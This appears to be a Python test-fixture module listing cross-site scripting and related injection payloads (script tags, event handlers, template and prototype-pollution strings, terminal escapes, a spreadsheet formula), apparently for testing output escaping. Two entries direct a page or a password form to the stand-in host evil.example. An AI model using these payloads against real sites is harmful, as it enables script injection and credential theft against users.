"""Texts that would run, or would change a page, where they were taken for anything but text."""

RUNS = "pwned=1"
PAYLOADS = (
    f"javascript:{RUNS}",
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"</script><script>{RUNS}</script>",
    f'"><svg onload={RUNS}>',
    f"'><svg/onload={RUNS}>",
    f'" autofocus onfocus="{RUNS}',
    f"' autofocus onfocus='{RUNS}",
    f"` onmouseover=`{RUNS}`",
    f"</title></textarea></style><script>{RUNS}</script>",
    f"--><!--><script>{RUNS}</script>",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUNS}&#62;",
    f"\\u003cscript\\u003e{RUNS}\\u003c/script\\u003e",
    f"${{{RUNS}}} {{{{constructor.constructor('{RUNS}')()}}}}",
    "{{ request.user.password }} {% debug %} {# #}",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=password autofocus>",
    f"<a href=javascript:{RUNS} style=position:fixed;inset:0>x</a>",
    f"<div hx-get=/ hx-trigger=load hx-on::load='{RUNS}' hx-on--load='{RUNS}'>",
    f"]]><math><mtext></mtext><script>{RUNS}</script>",
    f"\uff1cscript\uff1e{RUNS}\u2028\u2029\uff1c/script\uff1e",
    f"\u202e>tpircs/<{RUNS}>tpircs<\u202c",
    f"\x1b]0;{RUNS}\x07\x1b[31m\x1b[2J",
    f'=HYPERLINK("javascript:{RUNS}")',
    f"'-({RUNS})-'\\'-({RUNS})//\";({RUNS})//",
    f'{{"__proto__": "{RUNS}"}}',
)


def grouped(most: int) -> list[str]:
    """All payloads in texts of at most so many characters; the one that must come first, alone, does."""
    groups = [""]
    for payload in PAYLOADS:
        joined = f"{groups[-1]} {payload}".strip()
        groups[-1:] = [joined] if len(joined) <= most else [groups[-1], payload]
    return groups
